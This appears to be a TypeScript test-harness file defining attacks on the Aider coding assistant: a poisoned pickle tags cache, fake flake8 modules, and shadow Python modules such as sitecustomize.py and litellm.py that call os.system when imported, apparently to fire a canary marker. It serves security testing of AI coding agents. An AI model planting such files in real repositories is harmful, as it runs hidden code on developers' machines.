import { execFileSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import type { Attack } from '../attack.js';
import type { Scene } from '../scene.js';

const MODULES = 'litellm openai aider aider_runner numpy sitecustomize usercustomize pip json5 tree_sitter';

/**
 * Code and caches that run because of where they lie. They can all lie in one checkout.
 * @param python the interpreter that has Aider, which makes one of the files
 */
export const codeAttacks = (python: string): readonly Attack[] => [
  {
    name: 'tags-cache-pickle',
    tries: '.aider.tags.cache.v4: run code when the cache is read',
    plant: ({ checkout, fire }) => {
      const script = fileURLToPath(new URL('../../src/attacks/plant_tags_cache.py', import.meta.url));
      execFileSync(python, ['-I', script, checkout.directory, fire('tags-cache-pickle')]);
    },
    files: [], // so that there is a map of the repository, for which the cache would be opened
    editIsDue: true,
  },
  {
    name: 'flake8-hijack',
    tries: 'flake8.py: be imported by the linter',
    plant: (scene) => {
      for (const path of ['flake8.py', 'flake8/__init__.py', 'flake8/__main__.py'])
        module(scene, path, 'flake8-hijack');
    },
    editIsDue: true,
  },
  {
    name: 'module-hijack',
    tries: 'litellm.py, sitecustomize.py and others: be imported',
    plant: (scene) => MODULES.split(' ').forEach((name) => module(scene, `${name}.py`, 'module-hijack')),
    editIsDue: true,
  },
];

function module(scene: Scene, path: string, attack: string): void {
  scene.append(path, `import os\nos.system(${JSON.stringify(scene.fire(attack))})\n`);
}
